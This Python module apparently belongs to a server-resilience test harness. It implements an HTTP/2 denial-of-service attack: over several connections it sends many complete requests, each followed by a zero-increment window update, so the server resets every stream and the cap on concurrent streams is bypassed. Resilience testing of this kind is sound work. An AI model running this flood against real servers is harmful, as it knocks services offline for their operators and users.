"""A way around the bound on streams over HTTP/2: to have the server reset them."""

from aim import Aim, Attack
from http2_frames_kit import DATA, END_STREAM, OPENING, WINDOW, frame, head
from stage import ENCRYPTED

BODY = b'{"input": "x"}'
ZERO = (0).to_bytes(4, "big")
STREAMS = 1000  # on one connection, of which 256 may be open


async def made(aim: Aim) -> None:
    """A whole request, and then a window that grows by nothing: an error of the stream, for which it is reset."""

    streams = range(1, 2 * STREAMS, 2)
    said = OPENING + b"".join(
        head(stream, key=aim.key) + frame(DATA, END_STREAM, stream, BODY) + frame(WINDOW, 0, stream, ZERO)
        for stream in streams
    )

    async def one() -> None:
        reader, writer = await aim.open("h2")
        writer.write(said)
        aim.tally["streams"] += STREAMS
        while await reader.read(65536):
            pass

    await aim.crowd(4, one)


MADE = Attack(
    "HTTP/2: made to reset", "A tenant makes the server reset each of its streams.", made, ENCRYPTED
)
